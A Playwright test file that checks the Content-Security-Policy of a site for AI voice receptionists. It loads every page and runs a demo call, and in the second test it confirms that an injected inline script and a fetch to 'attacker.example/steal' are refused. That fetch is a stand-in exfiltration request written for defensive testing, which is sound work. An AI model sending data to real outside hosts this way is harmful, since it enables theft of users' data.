import { createHash } from 'node:crypto';
import { expect, type Page, test } from '@playwright/test';
import { openDemo, prepareVoicePage } from '../src/voice/testing/browser';
import { PAGES, scrollThrough } from './support/site';

/**
 * The Content-Security-Policy of `_headers`, as the host serves it, lets
 * every route and a whole demo call run without one violation, and still blocks what it must.
 */

type Watched = Window & { __cspViolations: string[] };

/** Records every `securitypolicyviolation` the page raises, from its first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const watched = window as unknown as Watched;
    watched.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      watched.__cspViolations.push(
        `${event.effectiveDirective} blocked ${event.blockedURI || '(inline)'} at ${event.sourceFile}:${event.lineNumber}`,
      );
    });
  });
}

const violations = (page: Page) =>
  page.evaluate(() => (window as unknown as Watched).__cspViolations);

test('every page, its islands and a demo call run under the CSP without a violation', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await watchViolations(page);
  await prepareVoicePage(page);

  for (const route of PAGES) {
    const response = await page.goto(route.path);
    const policy = (await response?.allHeaders())?.['content-security-policy'] ?? '';
    expect(policy, `${route.path} is served with the policy`).toContain("script-src 'self'");
    // The boot script the page holds is allowed by its hash, and is the one inline script.
    const inline = await page.evaluate(() =>
      [...document.querySelectorAll('script:not([src]):not([type="application/ld+json"])')].map(
        (script) => script.textContent ?? '',
      ),
    );
    expect(inline).toHaveLength(1);
    const hash = createHash('sha256')
      .update(inline[0] ?? '')
      .digest('base64');
    expect(policy).toContain(`'sha256-${hash}'`);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(route.heading);
    await scrollThrough(page);
    expect(await violations(page), route.path).toEqual([]);
  }

  // A whole call in the live demo, then one through the orb: config, call creation, the room.
  const demo = await openDemo(page);
  await demo.getByRole('button', { name: 'Click to start call with Hotel Concierge' }).click();
  await expect(demo.getByText('Live Call Connected')).toBeVisible();
  await expect(demo.getByRole('log').locator('[data-speaker="assistant"]').first()).toBeVisible();
  await demo.getByRole('button', { name: 'End Call' }).click();
  await expect(demo.getByRole('status')).toHaveText('Call ended');
  await page.evaluate(() => window.scrollTo(0, 0));
  const orb = page.locator('[data-slot="voice-orb"]');
  await orb.getByRole('button', { name: /AI receptionist/ }).click();
  await expect(orb).toHaveAttribute('data-state', 'connected');
  await orb.getByRole('button', { name: 'End call' }).click();
  await expect(orb).toHaveAttribute('data-state', 'idle');

  // The links to the other pages load them, and their islands' code, under the same policy.
  await page.getByRole('banner').getByRole('link', { name: 'Book a Call' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Meet Our AI Workers');
  await page.getByRole('contentinfo').getByRole('link', { name: 'Healthcare' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(/never puts a patient on hold/);
  expect(await violations(page)).toEqual([]);
});

test('the policy is in force: inline script and foreign hosts are refused', async ({ page }) => {
  await watchViolations(page);
  await page.goto('/');
  const outcome = await page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.head.append(inline);
    const foreign = await fetch('https://attacker.example/steal').then(
      () => 'sent',
      () => 'refused',
    );
    return {
      inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
      foreign,
    };
  });
  expect(outcome).toEqual({ inlineRan: false, foreign: 'refused' });
  await expect
    .poll(async () => (await violations(page)).map((line) => line.split(' ')[0]))
    .toEqual(['script-src-elem', 'connect-src']);
});
